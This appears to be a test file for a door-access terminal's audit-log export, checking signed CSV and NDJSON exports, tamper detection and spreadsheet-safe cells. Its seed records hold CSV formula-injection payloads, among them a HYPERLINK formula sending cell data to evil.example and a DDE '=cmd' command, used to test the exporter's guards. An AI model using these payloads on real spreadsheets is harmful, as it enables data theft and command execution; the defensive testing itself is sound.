import { generateKeyPairSync } from 'node:crypto';
import { text } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { neutraliseCell } from '../csv/spreadsheet-cell';
import { openTestDatabase, type TestDatabase } from '../testing/test-database';
import type { AdminActor } from './admin-actor';
import { hashAuditRecord } from './audit-chain';
import type { AuditRecordInput, StoredAuditRecord } from './audit-event';
import {
  AUDIT_CSV_COLUMNS,
  CSV_CHECKPOINT_PREFIX,
  auditCsvRecord,
  auditNdjsonLine,
  checkpointNdjsonLine,
  parseAuditExport,
  type AuditExportFormat,
} from './audit-export-format';
import { verifyAuditExport, type ExportVerification } from './audit-export-verify';
import { AuditExportService, type ExportFilter } from './audit-export.service';
import { publicHalf } from './audit-signing-key';
import {
  rowsDigester,
  signAuditStatement,
  type AuditCheckpoint,
  type Signed,
} from './audit-statement';
import { AuditModule } from './audit.module';
import { AuditService } from './audit.service';

const ACTOR: AdminActor = { kind: 'cli', user: 'auditor' };
const FORMATS: AuditExportFormat[] = ['csv', 'ndjson'];

/** Record n (from 1) is at minute n - 1 after T0: times rise with the sequence, as on a terminal. */
const T0 = Date.parse('2026-11-01T08:00:00.000Z');
const minute = (m: number) => new Date(T0 + m * 60_000);

const someone = { kind: 'cli', user: 'root' };
const SPECIAL: AuditRecordInput[] = [
  { type: 'device-event', reader: 'ACS ACR122U PICC Interface 00 00', outcome: 'reader-attached' },
  {
    type: 'access-decision',
    doorId: 'main',
    reader: 'ACS ACR122U PICC Interface 00 00',
    credentialKind: 'uid',
    credentialDisplay: '04A224E2C35E80',
    holderId: 'h-1',
    outcome: 'granted',
    detail: { method: 'uid', decideMs: 1.4, doorOnline: true },
  },
  {
    type: 'access-decision',
    doorId: 'main',
    reader: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    credentialKind: 'pan',
    credentialDisplay: '•••• •••• •••• 4242',
    outcome: 'denied',
    reason: 'unknown',
    detail: { method: 'pan' },
  },
  {
    type: 'admin-action',
    outcome: 'holder-created',
    holderId: 'h-2',
    detail: { actor: someone, name: 'Zoë Ørsted 👋' },
  },
  {
    type: 'admin-action',
    outcome: 'holder-created',
    holderId: '=cmd|"/c calc"!A1',
    reason: 'Zoë Ørsted 👋',
    detail: { actor: someone, name: '=1+2' },
  },
  {
    type: 'admin-action',
    outcome: 'holder-updated',
    holderId: "'=SUM(A1:A9)",
    reason: "''=x",
    detail: { actor: someone, before: '=1+2', after: "'=SUM(A1)", note: 'a, "b",\r\nc' },
  },
  {
    type: 'door-event',
    doorId: '+door',
    outcome: 'forced-open',
    detail: { note: 'comma, "quote" and\nnewline', 'key, "odd"': ['x', 1, null] },
  },
  {
    type: 'door-command-failed',
    doorId: 'main',
    reader: 'Reader, side "B"\nline two',
    reason: '-timeout',
    detail: { decisionSeq: 2 },
  },
  {
    type: 'card-read-incomplete',
    reader: '@reader',
    reason: 'card-removed',
    detail: { atr: '3B8F' },
  },
  {
    type: 'access-decision',
    doorId: 'main',
    credentialKind: 'uid',
    credentialDisplay: "'@quoted",
    holderId: "'plain'",
    outcome: 'denied',
    reason: 'line one\r\nline two',
    detail: { emoji: '👋🏽', cjk: '門', rtl: 'שלום', nul: 'a\u0000b', tab: '\tx' },
  },
];
/** An ordinary record: every fourth a door event, then a reader event, else a decision. */
function ordinary(i: number): AuditRecordInput {
  const common = { doorId: 'main', reader: 'Virtual PCD 00 00', detail: { i } };
  switch (i % 4) {
    case 1:
      return { ...common, type: 'door-event', outcome: i % 3 ? 'opened' : 'closed' };
    case 2:
      return { ...common, type: 'device-event', outcome: 'reader-attached' };
    default:
      return { ...common, type: 'access-decision', outcome: i % 3 ? 'granted' : 'denied' };
  }
}

/** 30 records: the awkward ones above, then ordinary ones of various types. */
const SEED: AuditRecordInput[] = [
  ...SPECIAL,
  ...Array.from({ length: 30 - SPECIAL.length }, (_, i) => ordinary(i)),
].map((r, i) => ({ ...r, at: minute(i) }));

/** The CSV cells a record is written as, column by column (`'` before a formula start). */
const FIELD_OF: Record<(typeof AUDIT_CSV_COLUMNS)[number], keyof StoredAuditRecord> = {
  seq: 'seq',
  at: 'at',
  type: 'type',
  door_id: 'doorId',
  reader: 'reader',
  credential_kind: 'credentialKind',
  credential_display: 'credentialDisplay',
  holder_id: 'holderId',
  outcome: 'outcome',
  reason: 'reason',
  detail: 'detail',
  prev_hash: 'prevHash',
  hash: 'hash',
};
const csvCells = (r: StoredAuditRecord): Record<string, string> =>
  Object.fromEntries(
    AUDIT_CSV_COLUMNS.map((column) => {
      const value = r[FIELD_OF[column]];
      return [column, value === null ? '' : neutraliseCell(String(value))];
    }),
  );

/** One record's text in an export, exactly as the exporter writes it (a CSV row may span lines). */
const rowText = (format: AuditExportFormat, r: StoredAuditRecord): string =>
  format === 'csv' ? stringify([auditCsvRecord(r)]) : `${auditNdjsonLine(r)}\n`;

const withoutLine = (records: (StoredAuditRecord & { line: number })[]): StoredAuditRecord[] =>
  records.map(({ line: _line, ...r }) => r);

/** Reads an export without the app's parser: the cells or objects as a consumer sees them. */
function readExport(format: AuditExportFormat, t: string) {
  const lines = t.split('\n');
  expect(lines.pop()).toBe('');
  if (format === 'ndjson') {
    const { checkpoint } = JSON.parse(lines.pop()!) as { checkpoint: Signed<AuditCheckpoint> };
    return { rows: lines.map((l) => JSON.parse(l) as unknown), checkpoint };
  }
  const last = lines.at(-1)!;
  expect(last.startsWith(CSV_CHECKPOINT_PREFIX)).toBe(true);
  return {
    rows: parse<Record<string, string>>(t, { columns: true, comment: '#' }),
    checkpoint: JSON.parse(last.slice(CSV_CHECKPOINT_PREFIX.length)) as Signed<AuditCheckpoint>,
  };
}

const asExported = (format: AuditExportFormat, r: StoredAuditRecord): unknown =>
  format === 'csv' ? csvCells(r) : { ...r, detail: JSON.parse(r.detail) as unknown };

const problemsOf = (v: ExportVerification) =>
  v.problems.map(({ seq, problem }) => ({ seq, problem }));

/** The terminal's database, its services, and exports read to the end. */
class Terminal {
  db!: TestDatabase;
  audit!: AuditService;
  exports!: AuditExportService;

  async open(seed: AuditRecordInput[]): Promise<void> {
    this.db = await openTestDatabase([AuditModule]);
    this.audit = this.db.module.get(AuditService);
    this.exports = this.db.module.get(AuditExportService);
    for (const input of seed) await this.audit.record(input);
  }

  all(): Promise<StoredAuditRecord[]> {
    return this.audit.after(0, 10_000);
  }

  async exportText(format: AuditExportFormat, filter: ExportFilter = {}): Promise<string> {
    return text(await this.exports.export(format, filter, ACTOR));
  }

  verified(exported: string, pem: string = this.exports.publicKeyPem): ExportVerification {
    return verifyAuditExport(exported, pem);
  }

  fingerprint(): string {
    return publicHalf(this.exports.publicKey).fingerprint;
  }

  /** The records an export of `filter` must hold: the log's, up to the export's head. */
  async expectedRows(filter: ExportFilter, headSeq: number): Promise<StoredAuditRecord[]> {
    return (await this.all()).filter(
      (r) =>
        r.seq <= headSeq &&
        (!filter.from || r.at >= filter.from.toISOString()) &&
        (!filter.to || r.at < filter.to.toISOString()) &&
        (!filter.types?.length || filter.types.includes(r.type)),
    );
  }
}

// One log for the tests that only add exports to it (each export appends its own record, so
// what a test expects is read from the log, up to the head its export signed).
describe('audit exports of one log on a real SQLite file', () => {
  const k = new Terminal();
  beforeAll(() => k.open(SEED));
  afterAll(() => k.db.close());

  describe('(a) an export verifies and holds exactly the records asked for', () => {
    const filters: [string, ExportFilter][] = [
      ['everything', {}],
      ['from and to', { from: minute(5), to: minute(20) }],
      ['from only', { from: minute(25) }],
      ['to only', { to: minute(3) }],
      ['types', { types: ['access-decision', 'door-event'] }],
      ['types, from and to', { types: ['access-decision'], from: minute(2), to: minute(18) }],
      ['the exports themselves', { types: ['admin-action'] }],
    ];

    describe.each(FORMATS)('%s', (format) => {
      it.each(filters)('%s', async (_, filter) => {
        const t = await k.exportText(format, filter);
        const result = k.verified(t);
        const { rows, checkpoint } = readExport(format, t);
        const expected = await k.expectedRows(filter, checkpoint.head.seq);
        expect(expected.length).toBeGreaterThan(0);
        expect(result).toEqual({
          ok: true,
          format,
          rows: expected.length,
          signature: { ok: true, fingerprint: k.fingerprint(), trustedKey: true },
          problems: [],
        });
        expect(rows).toEqual(expected.map((r) => asExported(format, r)));
        // The verifier's own reading gives back the stored records, formula guards taken off.
        expect(withoutLine(parseAuditExport(t).records)).toEqual(expected);
        expect(checkpoint).toMatchObject({
          kind: 'kiosk-audit-checkpoint',
          version: 1,
          filter: {
            from: filter.from?.toISOString() ?? null,
            to: filter.to?.toISOString() ?? null,
            types: filter.types ?? null,
          },
          rows: expected.length,
          first: {
            seq: expected[0]!.seq,
            prevHash: expected[0]!.prevHash,
            hash: expected[0]!.hash,
          },
          last: { seq: expected.at(-1)!.seq, hash: expected.at(-1)!.hash },
          publicKey: k.exports.publicKeyPem,
        });
      });

      it('takes `from` inclusive and `to` exclusive', async () => {
        const t = await k.exportText(format, { from: minute(5), to: minute(20) });
        // Record n is at minute n - 1: minutes 5 to 19 are records 6 to 20.
        expect(parseAuditExport(t).records.map((r) => r.seq)).toEqual(
          Array.from({ length: 15 }, (_, i) => 6 + i),
        );
      });

      it('matches nothing: no rows, and still a signed checkpoint that verifies', async () => {
        const t = await k.exportText(format, { types: ['door-event'], from: minute(29) });
        expect(k.verified(t)).toMatchObject({ ok: true, rows: 0, problems: [] });
        expect(readExport(format, t).checkpoint).toMatchObject({
          rows: 0,
          first: null,
          last: null,
        });
      });
    });

    it('an export of all records reaches the last one, with the head it signed', async () => {
      const t = await k.exportText('ndjson');
      const { checkpoint } = readExport('ndjson', t);
      const records = await k.all();
      const last = records.at(-1)!;
      expect(last).toMatchObject({ type: 'admin-action', outcome: 'audit-exported' });
      expect(checkpoint.head).toEqual({ seq: last.seq, hash: last.hash });
      expect(checkpoint.rows).toBe(records.length);
      expect(checkpoint.first).toEqual({
        seq: 1,
        prevHash: '0'.repeat(64),
        hash: records[0]!.hash,
      });
      const digest = rowsDigester();
      records.forEach((r) => digest.add(r.hash));
      expect(checkpoint.rowsDigest).toBe(digest.hex());
    });
  });

  describe('(b) an export is recorded before its rows are read', () => {
    it.each(FORMATS)(
      '%s: the record is there first; records appended later are not in it',
      async (format) => {
        const filter = { from: minute(0), types: ['access-decision', 'admin-action'] };
        const before = (await k.all()).at(-1)!.seq;
        const stream = await k.exports.export(format, filter, ACTOR);
        // Not read yet: the export is already in the log, as one admin action.
        const recorded = await k.audit.after(before, 100);
        expect(recorded).toEqual([
          expect.objectContaining({
            seq: before + 1,
            type: 'admin-action',
            outcome: 'audit-exported',
            doorId: null,
            reader: null,
            holderId: null,
            reason: null,
          }),
        ]);
        expect(JSON.parse(recorded[0]!.detail)).toEqual({
          actor: ACTOR,
          format,
          from: minute(0).toISOString(),
          to: null,
          types: ['access-decision', 'admin-action'],
        });
        // Appended after the export began, before it is read: not in it.
        for (let i = 0; i < 3; i++)
          await k.audit.record({ type: 'access-decision', doorId: 'main', outcome: 'granted' });
        await k.audit.record({ type: 'admin-action', outcome: 'holder-created' });
        expect((await k.all()).at(-1)!.seq).toBe(before + 5);

        const t = await text(stream);
        expect(k.verified(t)).toMatchObject({ ok: true, problems: [] });
        const seqs = parseAuditExport(t).records.map((r) => r.seq);
        expect(seqs.at(-1)).toBe(before + 1);
        expect(readExport(format, t).checkpoint.head).toEqual({
          seq: before + 1,
          hash: recorded[0]!.hash,
        });
        expect(withoutLine(parseAuditExport(t).records)).toEqual(
          await k.expectedRows(filter, before + 1),
        );
      },
    );

    it('records appended while the stream is being read are not in it', async () => {
      const before = (await k.all()).at(-1)!.seq;
      const stream = await k.exports.export('csv', {}, ACTOR);
      let t = '';
      let appended = 0;
      for await (const chunk of stream) {
        t += String(chunk);
        if (appended === 0)
          for (; appended < 5; appended++) await k.audit.record({ type: 'device-event' });
      }
      expect(appended).toBe(5);
      expect((await k.all()).at(-1)!.seq).toBe(before + 6);
      expect(k.verified(t)).toMatchObject({ ok: true, rows: before + 1 });
      expect(parseAuditExport(t).records.at(-1)!.seq).toBe(before + 1);
    });

    it('every export is recorded, one after another, and the log still chains', async () => {
      const before = (await k.all()).at(-1)!.seq;
      await k.exportText('csv');
      await k.exportText('ndjson', { types: ['door-event'] });
      const exported = (await k.all()).filter((r) => r.seq > before);
      expect(exported.map((r) => [r.seq, r.outcome])).toEqual([
        [before + 1, 'audit-exported'],
        [before + 2, 'audit-exported'],
      ]);
      expect(await k.audit.verify()).toEqual({ records: before + 2, break: null });
    });
  });

  describe('(c) a tampered export is found, by sequence number', () => {
    const FILTERS = {
      all: {},
      fromMinute4: { from: minute(4) },
      accessDecisions: { types: ['access-decision'] },
      doorEvents: { types: ['door-event'] },
    } satisfies Record<string, ExportFilter>;
    type Exported = { t: string; records: StoredAuditRecord[]; checkpoint: AuditCheckpoint };
    const made = new Map<string, Exported>();
    beforeAll(async () => {
      for (const format of FORMATS)
        for (const [name, filter] of Object.entries(FILTERS)) {
          const t = await k.exportText(format, filter);
          made.set(`${format} ${name}`, {
            t,
            records: withoutLine(parseAuditExport(t).records),
            checkpoint: readExport(format, t).checkpoint,
          });
        }
    });

    /** An export made in beforeAll, and each record's text in it. */
    function exported(format: AuditExportFormat, filter: keyof typeof FILTERS = 'all') {
      const e = made.get(`${format} ${filter}`)!;
      expect(k.verified(e.t)).toMatchObject({ ok: true, problems: [] });
      const bySeq = (seq: number) => {
        const r = e.records.find((x) => x.seq === seq)!;
        const row = rowText(format, r);
        expect(e.t.split(row)).toHaveLength(2); // the row is there, once
        return row;
      };
      return { ...e, bySeq };
    }

    describe.each(FORMATS)('%s', (format) => {
      it('one byte of a row changed: edited, at that seq', () => {
        const { t, bySeq } = exported(format);
        const row = bySeq(12);
        // Record 12 is at minute 11: 08:11:00.000 becomes 08:11:00.001.
        expect(row).toContain('2026-11-01T08:11:00.000Z');
        const result = k.verified(t.replace(row, row.replace('08:11:00.000Z', '08:11:00.001Z')));
        expect(result.ok).toBe(false);
        expect(result.signature.ok).toBe(true);
        expect(result.problems).toEqual([expect.objectContaining({ seq: 12, problem: 'edited' })]);
      });

      it('a changed outcome in a row with awkward text: edited, at that seq', () => {
        const { t, bySeq } = exported(format);
        const row = bySeq(3); // the reader that starts with '=', a masked PAN
        const result = k.verified(t.replace(row, row.replace('denied', 'granted')));
        expect(problemsOf(result)).toEqual([{ seq: 3, problem: 'edited' }]);
      });

      it('a middle row deleted: missing, naming the seq', () => {
        const { t, records, bySeq } = exported(format);
        const result = k.verified(t.replace(bySeq(8), '')); // a row with a newline in a cell
        expect(result.ok).toBe(false);
        expect(result.rows).toBe(records.length - 1);
        expect(problemsOf(result)).toEqual([
          { seq: 8, problem: 'missing' },
          { seq: null, problem: 'missing' },
          { seq: null, problem: 'checkpoint' },
        ]);
      });

      it('the first or the last row deleted: missing', () => {
        const { t, records, bySeq } = exported(format, 'fromMinute4');
        expect(records[0]!.seq).toBe(5);
        const first = k.verified(t.replace(bySeq(5), ''));
        expect(first.ok).toBe(false);
        expect(first.problems).toContainEqual({
          seq: 6,
          problem: 'missing',
          detail: 'the first row is not seq 5 as signed',
        });
        const [beforeLast, last] = records.slice(-2).map((r) => r.seq);
        const withoutLast = k.verified(t.replace(bySeq(last!), ''));
        expect(withoutLast.ok).toBe(false);
        expect(withoutLast.problems).toContainEqual({
          seq: beforeLast,
          problem: 'missing',
          detail: `the last row is not seq ${last} as signed`,
        });
      });

      it('a middle row deleted from a filtered export: missing', () => {
        const { t, records, bySeq } = exported(format, 'accessDecisions');
        const middle = records[Math.floor(records.length / 2)]!.seq;
        const result = k.verified(t.replace(bySeq(middle), ''));
        expect(result.ok).toBe(false);
        expect(problemsOf(result)).toEqual([
          { seq: null, problem: 'missing' },
          { seq: null, problem: 'checkpoint' },
        ]);
      });

      it('a row duplicated: inserted, and the seq named', () => {
        const { t, records, bySeq } = exported(format);
        const row = bySeq(10);
        const result = k.verified(t.replace(row, row + row));
        expect(result.ok).toBe(false);
        expect(result.rows).toBe(records.length + 1);
        expect(problemsOf(result)).toContainEqual({ seq: null, problem: 'inserted' });
        expect(result.problems.some((p) => p.seq === 10)).toBe(true);
      });

      it('a forged row inserted with a hash of its own: found, its seq named', () => {
        const { t, records, bySeq } = exported(format);
        const after = records.find((r) => r.seq === 10)!;
        const fields = { ...after, seq: 11, outcome: 'granted', holderId: 'h-forged' };
        const forged = {
          ...fields,
          prevHash: after.hash,
          hash: hashAuditRecord(after.hash, fields),
        };
        const result = k.verified(t.replace(bySeq(10), bySeq(10) + rowText(format, forged)));
        expect(result.ok).toBe(false);
        expect(problemsOf(result)).toContainEqual({ seq: null, problem: 'inserted' });
        expect(result.problems.some((p) => p.seq === 11)).toBe(true);
      });

      it('a genuine row the filter left out, put back in: inserted', () => {
        const { t, records, bySeq } = exported(format, 'doorEvents');
        const left = exported(format).records.find((r) => r.seq === 8)!;
        expect(left.type).toBe('door-command-failed');
        const next = records.find((r) => r.seq > 8)!;
        const result = k.verified(
          t.replace(bySeq(next.seq), rowText(format, left) + bySeq(next.seq)),
        );
        expect(result.ok).toBe(false);
        expect(problemsOf(result)).toEqual([
          { seq: null, problem: 'inserted' },
          { seq: null, problem: 'checkpoint' },
        ]);
      });

      it('two rows swapped: reordered', () => {
        const { t, bySeq } = exported(format);
        const [a, b] = [bySeq(6), bySeq(7)];
        const result = k.verified(t.replace(a + b, b + a));
        expect(result.ok).toBe(false);
        expect(result.signature.ok).toBe(true);
        expect(problemsOf(result)).toContainEqual({ seq: 6, problem: 'reordered' });
      });

      it('two rows swapped in a filtered export: reordered', () => {
        const { t, records, bySeq } = exported(format, 'accessDecisions');
        const [a, b] = [bySeq(records[1]!.seq), bySeq(records[2]!.seq)];
        const result = k.verified(t.replace(a + b, b + a));
        expect(result.ok).toBe(false);
        expect(problemsOf(result)).toContainEqual({ seq: records[1]!.seq, problem: 'reordered' });
      });

      it("the checkpoint's signature changed by one character", () => {
        const { t } = exported(format);
        const signature = /"signature":"([A-Za-z0-9+/=]+)"/.exec(t)![1]!;
        const changed = `${signature.startsWith('A') ? 'B' : 'A'}${signature.slice(1)}`;
        const result = k.verified(t.replace(signature, changed));
        expect(result).toMatchObject({
          ok: false,
          signature: { ok: false, problem: 'the signature does not match the statement' },
          problems: [],
        });
      });

      it('a row deleted and the checkpoint count lowered to match: the signature fails', () => {
        const { t, checkpoint, bySeq } = exported(format);
        const count = `"rows":${checkpoint.rows}`;
        expect(t.split(count)).toHaveLength(2);
        const result = k.verified(
          t.replace(bySeq(30), '').replace(count, `"rows":${checkpoint.rows - 1}`),
        );
        expect(result.ok).toBe(false);
        expect(result.signature).toEqual({
          ok: false,
          problem: 'the signature does not match the statement',
        });
      });

      it('the checkpoint line removed', () => {
        const { t, records } = exported(format);
        const lines = t.split('\n');
        lines.splice(-2, 1);
        const result = k.verified(lines.join('\n'));
        expect(result).toMatchObject({
          ok: false,
          rows: records.length,
          signature: { ok: false },
          problems: [{ seq: null, problem: 'checkpoint', detail: 'the export has no checkpoint' }],
        });
      });

      it('cut short in the middle of the rows (an interrupted download)', () => {
        const { t, bySeq } = exported(format);
        const result = k.verified(t.slice(0, t.indexOf(bySeq(20))));
        expect(result).toMatchObject({ ok: false, rows: 19 });
        expect(problemsOf(result)).toEqual([{ seq: null, problem: 'checkpoint' }]);
      });

      it("verified with another terminal's key", () => {
        const { t, checkpoint } = exported(format);
        const another = publicHalf(generateKeyPairSync('ed25519').publicKey);
        const result = k.verified(t, another.publicKeyPem);
        expect(result.ok).toBe(false);
        expect(result.signature).toEqual({
          ok: false,
          problem: `signed by another key (${k.fingerprint().slice(0, 16)}…), not the one given`,
        });
        expect(result.problems).toEqual([]);
        expect(checkpoint).toMatchObject({ publicKeyFingerprint: k.fingerprint() });
        // Without a key, only that the file holds together, and whose key it carries.
        expect(verifyAuditExport(t)).toMatchObject({
          ok: true,
          signature: { ok: true, trustedKey: false, fingerprint: k.fingerprint() },
        });
      });

      it('a checkpoint that is JSON but no checkpoint: not ok, no throw', () => {
        const lines = exported(format).t.split('\n');
        lines[lines.length - 2] =
          format === 'csv' ? `${CSV_CHECKPOINT_PREFIX}{}` : JSON.stringify({ checkpoint: {} });
        const tampered = lines.join('\n');
        let results: ExportVerification[] = [];
        expect(() => (results = [verifyAuditExport(tampered), k.verified(tampered)])).not.toThrow();
        expect(results).toMatchObject([{ ok: false }, { ok: false }]);
      });

      it('a checkpoint without its key fingerprint: not ok, no throw', () => {
        const { t } = exported(format);
        const stripped = t.replace(`"publicKeyFingerprint":"${k.fingerprint()}",`, '');
        expect(stripped).not.toBe(t);
        let result: ExportVerification | undefined;
        expect(() => (result = k.verified(stripped))).not.toThrow();
        expect(result).toMatchObject({ ok: false });
      });
    });

    it('an export rebuilt and re-signed by another key verifies only without the terminal key', () => {
      const { records, checkpoint: original } = exported('ndjson');
      // Someone who changed a record, re-chained every row and signed with a key of their own.
      const pair = generateKeyPairSync('ed25519');
      const forger = { ...publicHalf(pair.publicKey), privateKey: pair.privateKey };
      let prev = '0'.repeat(64);
      const rewritten = records.map((r) => {
        const fields = r.seq === 2 ? { ...r, outcome: 'denied' } : r;
        const hash = hashAuditRecord(prev, fields);
        const out = { ...fields, prevHash: prev, hash };
        prev = hash;
        return out;
      });
      const digest = rowsDigester();
      rewritten.forEach((r) => digest.add(r.hash));
      const checkpoint = signAuditStatement<AuditCheckpoint>(
        {
          ...original,
          rows: rewritten.length,
          first: { seq: 1, prevHash: rewritten[0]!.prevHash, hash: rewritten[0]!.hash },
          last: { seq: rewritten.at(-1)!.seq, hash: rewritten.at(-1)!.hash },
          rowsDigest: digest.hex(),
          head: { seq: rewritten.at(-1)!.seq, hash: rewritten.at(-1)!.hash },
        },
        forger,
      );
      const forged = `${[...rewritten.map(auditNdjsonLine), checkpointNdjsonLine(checkpoint)].join('\n')}\n`;
      expect(verifyAuditExport(forged)).toMatchObject({
        ok: true,
        signature: { ok: true, trustedKey: false, fingerprint: forger.fingerprint },
      });
      const result = k.verified(forged);
      expect(result.ok).toBe(false);
      expect(result.signature).toMatchObject({
        ok: false,
        problem: expect.stringMatching(/^signed by another key/) as unknown,
      });
    });
  });

  describe('(d) CSV is spreadsheet-safe and reads back', () => {
    it('parses with csv-parse into the same cells, none a formula; the verifier restores the text', async () => {
      const t = await k.exportText('csv');
      expect(t.split('\n')[0]).toBe(AUDIT_CSV_COLUMNS.join(','));
      const { rows, checkpoint } = readExport('csv', t);
      const records = await k.expectedRows({}, checkpoint.head.seq);
      expect(rows).toEqual(records.map(csvCells));
      for (const row of rows as Record<string, string>[])
        for (const [column, cell] of Object.entries(row))
          expect([row.seq, column, cell]).not.toEqual([
            row.seq,
            column,
            expect.stringMatching(/^[=+\-@]/),
          ]);
      // The guard is there, and only where it is needed.
      const cellsOf = (seq: number) =>
        (rows as Record<string, string>[]).find((r) => r.seq === String(seq))!;
      expect(cellsOf(3).reader).toBe(`'${SEED[2]!.reader}`);
      expect(cellsOf(5)).toMatchObject({
        holder_id: `'=cmd|"/c calc"!A1`,
        reason: 'Zoë Ørsted 👋',
      });
      expect(cellsOf(6)).toMatchObject({ holder_id: "''=SUM(A1:A9)", reason: "'''=x" });
      expect(cellsOf(7).door_id).toBe("'+door");
      expect(cellsOf(8)).toMatchObject({
        reader: 'Reader, side "B"\nline two',
        reason: "'-timeout",
      });
      expect(cellsOf(9).reader).toBe("'@reader");
      expect(cellsOf(10)).toMatchObject({
        credential_display: "''@quoted",
        holder_id: "'plain'",
        reason: 'line one\r\nline two',
      });
      // The verifier takes the guards off: the records as stored, and their hashes hold.
      expect(withoutLine(parseAuditExport(t).records)).toEqual(records);
      expect(k.verified(t)).toMatchObject({ ok: true, rows: records.length, problems: [] });
      // And what is stored is what was recorded.
      const stored = await k.audit.after(0, SPECIAL.length);
      expect(
        stored.map((r) => [r.doorId, r.reader, r.credentialDisplay, r.holderId, r.reason]),
      ).toEqual(
        SPECIAL.map((r) => [
          r.doorId ?? null,
          r.reader ?? null,
          r.credentialDisplay ?? null,
          r.holderId ?? null,
          r.reason ?? null,
        ]),
      );
      expect(stored.map((r) => JSON.parse(r.detail) as unknown)).toEqual(
        SPECIAL.map((r) => r.detail ?? {}),
      );
    });
  });
});

// Logs of their own, for records that would change what the tests above expect.
describe('audit exports of unusual logs', () => {
  const k = new Terminal();
  beforeEach(() => k.open([]));
  afterEach(() => k.db.close());

  it("a CSV cell holding '#' survives a comment-aware parser", async () => {
    await k.audit.record({ type: 'access-decision', doorId: 'door #2', reader: 'Reader #1' });
    const t = await k.exportText('csv');
    expect(k.verified(t)).toMatchObject({ ok: true, rows: 2 });
    const rows = parse<Record<string, string>>(t, {
      columns: true,
      comment: '#',
      relax_column_count: true,
    });
    expect(rows[0]).toMatchObject({ door_id: 'door #2', reader: 'Reader #1' });
  });

  it('an empty text, not null, survives an export', async () => {
    await k.audit.record({
      type: 'device-event',
      reader: '',
      reason: '',
      outcome: 'reader-removed',
    });
    expect((await k.all())[0]).toMatchObject({ seq: 1, reader: '', reason: '' });
    for (const format of FORMATS)
      expect([format, k.verified(await k.exportText(format))]).toEqual([
        format,
        expect.objectContaining({ ok: true, problems: [] }),
      ]);
  });

  it('a time-range export verifies when the clock stepped back inside it', async () => {
    // The clock was set back between records 2 and 3 (an NTP step, a corrected RTC).
    for (const m of [10, 40, 30, 41])
      await k.audit.record({ type: 'access-decision', at: minute(m), outcome: 'granted' });
    for (const format of FORMATS) {
      const t = await k.exportText(format, { from: minute(35), to: minute(50) });
      expect(parseAuditExport(t).records.map((r) => r.seq)).toEqual([2, 4]);
      const result = k.verified(t);
      expect([format, result.problems]).toEqual([format, []]);
      expect(result.ok).toBe(true);
    }
  });
});
